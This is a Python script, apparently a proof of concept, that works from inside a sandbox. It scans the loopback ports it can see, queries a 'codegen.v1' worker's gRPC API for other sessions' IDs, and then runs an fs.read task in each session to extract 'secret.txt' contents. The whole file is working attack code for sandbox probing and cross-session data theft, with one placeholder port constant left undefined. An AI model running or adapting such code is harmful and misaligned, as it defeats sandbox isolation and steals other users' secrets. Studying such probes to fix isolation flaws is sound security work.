import re, socket, struct, sys

def lit(name, value):
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v

def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload

def pb_str(field, s):
    b = s.encode() if isinstance(s, str) else s
    out, n = b"", len(b)
    while True:
        c = n & 0x7F; n >>= 7
        out += bytes([c | (0x80 if n else 0)])
        if not n: break
    return bytes([(field << 3) | 2]) + out + b

def call(port, path, message, timeout=20):
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    hdrs = lit(":method", "POST") + lit(":scheme", "http") + lit(":path", path) + lit(":authority", "localhost") + lit("content-type", "application/grpc") + lit("te", "trailers")
    body = b"\x00" + struct.pack(">I", len(message)) + message
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, hdrs) + frame(0, 1, 1, body))
    buf, data = b"", b""
    while True:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            break
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length: break
            ftype, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload, buf = buf[9:9 + length], buf[9 + length:]
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0, b""))
            elif ftype == 6 and not flags & 1:
                s.sendall(frame(6, 1, 0, payload))
            elif ftype == 0 and stream == 1:
                data += payload
                if length: s.sendall(frame(8, 0, 0, struct.pack(">I", length)) + frame(8, 0, 1, struct.pack(">I", length)))
            if stream == 1 and flags & 1 and ftype in (0, 1):
                s.close()
                return data
    s.close()
    return data

def listening_ports():
    ports = set()
    for f in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(f).read().splitlines()[1:]:
                parts = line.split()
                if parts[3] == "0A":
                    ports.add(int(parts[1].split(":")[1], 16))
        except OSError:
            pass
    return sorted(ports)

ports = listening_ports()
print("listening TCP ports visible from the sandbox:", len(ports), "worker port among them:", ONLY_PORT in ports)
found = {}
for port in [p for p in ports if p == ONLY_PORT]:
    try:
        raw = call(port, "/codegen.v1.SessionManagement/GetCapacity", b"", timeout=3)
    except Exception:
        continue
    ids = sorted(set(re.findall(rb"session-[A-Za-z0-9_-]{22}", raw)))
    if ids:
        found[port] = ids
print("workers found on loopback:", {p: len(v) for p, v in found.items()})
for port, ids in found.items():
    for sid in ids:
        req = pb_str(2, sid) + pb_str(3, "fs.read") + pb_str(4, pb_str(1, "path") + pb_str(2, "secret.txt"))
        raw = call(port, "/codegen.v1.TaskExecution/ExecuteTask", req)
        m = re.search(rb"TOP SECRET[^\x00-\x1f\"]*", raw)
        print("port", port, sid.decode(), "->", m.group(0).decode() if m else "no secret")
